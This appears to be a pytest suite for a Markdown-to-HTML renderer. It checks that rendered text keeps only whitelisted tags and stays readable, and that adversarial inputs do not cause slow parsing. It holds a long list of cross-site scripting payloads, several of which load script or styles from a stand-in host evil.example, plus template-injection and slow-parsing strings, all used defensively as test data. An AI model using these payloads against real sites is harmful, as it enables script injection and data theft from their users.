"""Nothing active comes out of a body, everything stays readable, and no text takes long."""

import json
import re
import subprocess
import sys
from html import unescape

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from infocentre.decode import character_faults
from infocentre.markup import Notes, link, render, resolver

XHTML = "{http://www.w3.org/1999/xhtml}"
# What a reader's browser may find in a text, element by element.
ALLOWED = {
    **dict.fromkeys(("p", "br", "ul", "li", "blockquote", "strong", "em", "code", "pre", "hr"), set()),
    **dict.fromkeys(("h2", "h3", "h4"), {"id"}),
    "a": {"href", "hreflang", "lang", "id", "class", "rel"},
    "sup": {"class"},
    "span": {"class"},
    "ol": {"start"},
}
OUR_LINKS = re.compile(r"(https://|#|\./|\.\./)")


def body(text, **facts):
    return render(text, resolver(facts, Notes(), lambda address, words: link(f"../../{address}/", words or "Title", "uk", "en")))


def parse(html):
    """The tree that a browser makes of the text inside a page."""
    return html5lib.parseFragment(str(html), container="div", treebuilder="etree")


def elements(html):
    """The name and attributes of each element; anything outside of HTML keeps its namespace."""
    return [(str(element.tag).removeprefix(XHTML), element.attrib) for element in parse(html).iter() if element.tag != "DOCUMENT_FRAGMENT"]


def shown(html):
    """What a reader sees, its spaces made equal."""
    return " ".join("".join(parse(html).itertext()).split())


def assert_harmless(html):
    for name, attributes in elements(html):
        assert name in ALLOWED, f"<{name}> in {html}"
        assert set(attributes) <= ALLOWED[name], f"{attributes} in {html}"
        if "href" in attributes:
            assert OUR_LINKS.match(attributes["href"]), f"{attributes} in {html}"
        assert attributes.get("id", "t-").startswith("t-"), f"{attributes} in {html}"


# Rows H of references/safety.md that concern bodies, and payloads that browsers have fallen for.
# Each says `canary` where a reader must still be able to read something.

PAYLOADS = [
    # H1 scripts
    "<script>alert('canary')</script>",
    "<ScRiPt src=//evil.example/x.js>canary</sCrIpT>",
    "<script\n>alert(1)//canary</script\n>",
    "<<script>alert(1);//<</script>canary",
    "<scr<script>ipt>alert(1)</scr</script>ipt> canary",
    "</p><script>alert(1)</script><p>canary",
    "canary <img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="canary">',
    "<svg onload=alert(1)>canary</svg>",
    "<svg><script>alert(1)</script>canary</svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>canary</text></a></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>canary</text></a></svg>",
    "<math><mtext><script>alert(1)</script>canary</mtext></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>canary</maction></math>",
    "<iframe srcdoc='<script>alert(1)</script>'>canary</iframe>",
    "<iframe src=javascript:alert(1)>canary</iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>canary</object>",
    "<embed src=javascript:alert(1)> canary",
    "<body onload=alert(1)>canary",
    "<details open ontoggle=alert(1)>canary</details>",
    "<marquee onstart=alert(1)>canary</marquee>",
    "<video><source onerror=alert(1)>canary</video>",
    "<input autofocus onfocus=alert(1) value=canary>",
    "<select autofocus onfocus=alert(1)><option>canary</select>",
    # H2 breaking out of attributes
    '[canary](https://example.org/"onmouseover="alert(1))',
    "[canary](https://example.org/ 'x' onmouseover=alert(1))",
    '[canary](https://example.org/ "\\"onmouseover=alert(1) x=\\"")',
    '[[stories/a|canary" onmouseover="alert(1)]]',
    "[[stories/a|canary' autofocus onfocus='alert(1)]]",
    '[@a" onmouseover="alert(1)] canary',
    '"><img src=x onerror=alert(1)> canary',
    # H3 schemes
    "[canary](javascript:alert(1))",
    "[canary](JaVaScRiPt:alert(1))",
    "[canary](java\tscript:alert(1))",
    "[canary](<java\nscript:alert(1)>)",
    "[canary](javascript&colon;alert(1))",
    "[canary](&#106;avascript:alert(1))",
    "[canary](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[canary](java&Tab;script:alert(1))",
    "[canary](&#1;javascript:alert(1))",
    "[canary](vbscript:msgbox(1))",
    "[canary](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[canary](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[canary](file:///etc/passwd)",
    "[canary](intent://x#Intent;scheme=http;end)",
    "[canary](http://example.org/)",
    # H4 the same in other forms
    "[canary]\n\n[canary]: javascript:alert(1)",
    "[canary][x]\n\n[x]: <javascript:alert(1)> 'title'",
    "<javascript:alert(1)> canary",
    "canary[^1]\n\n[^1]: <script>alert(1)</script>",
    "canary\n\n*[canary]: <script>alert(1)</script>",
    "![x](javascript:alert(1)) canary",
    # H5 attribute lists
    "[canary](https://example.org/){: onmouseover=alert(1) style=color:red }",
    "canary\n{: #__config onclick=alert(1) }",
    "## canary {#content onclick=alert(1)}",
    # H6 raw HTML of every sort
    "<!-- canary -->",
    "<!--><img src=x onerror=alert(1)>--> canary",
    "<![CDATA[<script>alert(1)</script>canary]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>canary",
    "<!DOCTYPE html><html onmouseover=alert(1)>canary",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>canary</noscript>",
    "<template><script>alert(1)</script>canary</template>",
    "<base href=//evil.example/>canary",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>canary",
    "<form action=//evil.example><input name=canary><button>canary</button></form>",
    "<style>@import '//evil.example/x.css';/*canary*/</style>",
    "<link rel=stylesheet href=//evil.example/x.css>canary",
    "<div markdown=1 onclick=alert(1)>*canary*</div>",
    "<p style='background:url(//evil.example/x)'>canary</p>",
    # H7 texts that change their meaning when they are parsed a second time
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>canary",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>canary",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>canary",
    "<noscript><style></noscript><img src=x onerror=alert(1)>canary</style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>canary",
    "`<img src=x onerror=alert(1)>` canary",
    "    <script>alert('canary')</script>",
    "```html\n<script>alert('canary')</script>\n```",
    "```<script>alert(1)</script>\ncanary\n```",
    "&lt;script&gt;alert('canary')&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt; canary",
    "\\<script>alert('canary')\\</script>",
    # H8, H9 names that a script or a link of the page could take for its own
    "<a id=__config name=getElementById>canary</a>",
    "# canary\n\n# content\n\n# sources",
    # H17 what is not closed must not swallow the page
    "```\ncanary",
    "<div><details><summary>canary",
    "> - 1. **canary",
    # H20 pictures of others
    "![x](https://evil.example/pixel.png) canary",
    "![x][y] canary\n\n[y]: https://evil.example/pixel.png",
    # H24 what a tap must not dial or send
    "[canary](tel:*21*123#)",
    "[canary](mailto:a@example.org?bcc=b@example.org&body=x)",
    "[canary](sms:+380?body=x)",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_and_still_readable(payload):
    html = str(body(payload).html)
    assert_harmless(html)
    assert "canary" in shown(html)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_what_is_safe_once_is_safe_when_it_is_parsed_again(payload):
    once = html5lib.serialize(parse(body(payload).html), omit_optional_tags=False)
    assert html5lib.serialize(parse(once), omit_optional_tags=False) == once
    assert_harmless(once)


@pytest.mark.parametrize("payload", [payload for payload in PAYLOADS if payload.startswith(("<", '"><'))])
def test_raw_html_is_shown_letter_by_letter(payload):
    markdown = re.compile(r"[*_>\s]")  # emphasis, quotations and line ends are Markdown's own
    assert markdown.sub("", unescape(payload)) in markdown.sub("", shown(body(payload).html))


@pytest.mark.parametrize(
    "text",
    [
        "{{7*7}}", "{% include 'x' %}", "{# x #}", "${7*7}", "<%= 7*7 %>", "{{ cycler.x }}", "#{7*7}",
        "[TOC]", ":::", "!!! note", '--8<-- "x"', "*[abbr]: x", "[^1]: y", "| a | b |", "~~a~~", "[ ] x", "=== tab", "???+ x",
    ],
)  # fmt: skip
def test_what_other_systems_would_run_or_read_as_structure_stays_as_it_is_written(text):
    assert shown(body(f"a\n{text}").html) == f"a {text}"


def test_nothing_is_left_open():
    html = str(body("> - **a\n\n```\nb").html)
    assert [html.count(f"<{name}>") for name in ("blockquote", "ul", "li", "pre")] == [html.count(f"</{name}>") for name in ("blockquote", "ul", "li", "pre")]


# Any text at all

ALPHABET = st.characters().filter(lambda character: not list(character_faults(character)))
PIECES = st.sampled_from(
    ["<", ">", '"', "'", "`", "```\n", "\n", "\n\n", "    ", "[", "](", ")", "]: ", "![", "**", "_", "> ", "- ", "1. ", "# ", "\\", "&", "&#x6a", ";",
     "javascript:", "data:", "https://a.example/", "//", "onerror=", "style=", "<script>", "</script>", "<svg ", "<!--", "-->", "<![CDATA[", "]]>",
     "{a}", "[@s]", "[[stories/x]]", "[[stories/x|", "]]", "<!--slot:content-->"]
)  # fmt: skip
TEXTS = st.one_of(st.text(ALPHABET, max_size=200), st.lists(st.one_of(PIECES, st.text(ALPHABET, max_size=4)), max_size=30).map("".join))


@settings(deadline=None, max_examples=400, derandomize=True)
@given(TEXTS)
def test_no_text_at_all_gives_anything_but_allowed_tags(text):
    facts = dict.fromkeys(re.findall(r"\{([a-z0-9-]+)\}", text), "<b>60</b>")
    assert_harmless(body(text, **facts).html)


# Texts that cost some parsers minutes. Each is rendered at the limit of a field, or refused by the checks before.

AT_THE_LIMIT = """
import json, sys, time
from infocentre.checks import bodies
from infocentre.markup import Notes, link, render, resolver

SIZE = 20 * 1024
PATTERNS = json.loads(sys.stdin.read())
slow = []
for name, (before, unit, after) in PATTERNS.items():
    text = (before + unit * (SIZE // max(1, len(unit)) + 1))[: SIZE - len(after)] + after
    started = time.process_time()
    refused = list(bodies._abyss(text)) or list(bodies._markdown(text))
    if not any(code == "markdown-depth" for _, code, *_ in refused):
        render(text, resolver({"a": "1"}, Notes(), lambda address, words: "x"))
    if time.process_time() - started > 2:
        slow.append(name)
print(json.dumps(slow))
"""

PATTERNS = {
    "open brackets": ("", "[", ""),
    "open pictures": ("", "![", ""),
    "nested brackets": ("", "[", "]" * 10_000),
    "links without an end": ("", "[a](", ""),
    "links in brackets without an end": ("", "[a](<b", ""),
    "links": ("", "[a](b)", ""),
    "link titles": ("", '[a](b "', ""),
    "references": ("[a]: /u\n\n", "[a] ", ""),
    "references to themselves": ("", "[a][b]", ""),
    "definitions": ("", "[a]: b\n", ""),
    "definitions with spaces": ("", "[]:0 ", ""),
    "stars": ("", "*", ""),
    "stars and letters": ("", "*a ", ""),
    "strong without an end": ("", "**a ", ""),
    "strong chain": ("", "**a*", ""),
    "strong round nothing": ("", "*", "a" + "*" * 10_000),
    "mixed emphasis": ("", "*a_ ", ""),
    "emphasis in emphasis": ("", "*a **b ", ""),
    "underscores": ("", "__a_", ""),
    "backticks": ("", "`a``", ""),
    "backticks without an end": ("`" * 5_000 + " ", "`a ", ""),
    "quotations": ("", ">", ""),
    "quotations with spaces": ("", "> ", ""),
    "quotations in a list": ("- ", ">", ""),
    "quotations after a text": ("a\n- >", "> ", ""),
    "lists on one line": ("", "- ", ""),
    "numbers on one line": ("", "1. ", ""),
    "lists in quotations": ("", "> - ", ""),
    "lists and numbers": ("", "1. - ", ""),
    "tags": ("", "<a ", ""),
    "tags without names": ("", "<", ""),
    "comments": ("", "<!--", ""),
    "data sections": ("", "<![CDATA[", ""),
    "entities": ("", "&#x", ""),
    "backslashes": ("", "\\", ""),
    "fences": ("", "```\n", ""),
    "headings": ("", "# a\n", ""),
    "underlined headings": ("", "a\n=", ""),
    "line breaks": ("", "a  \n", ""),
    "tabs": ("", "\t", ""),
    "signs": ("", "{a}[@a][[a]]", ""),
    "signs without an end": ("", "[@", ""),
    "records without an end": ("", "[[a|", ""),
}


@pytest.mark.row("H18", "H19")
def test_no_text_at_the_limit_of_a_field_takes_two_seconds():
    child = subprocess.run([sys.executable, "-c", AT_THE_LIMIT], input=json.dumps(PATTERNS), capture_output=True, text=True, timeout=300)
    assert child.returncode == 0, child.stderr
    assert json.loads(child.stdout) == []
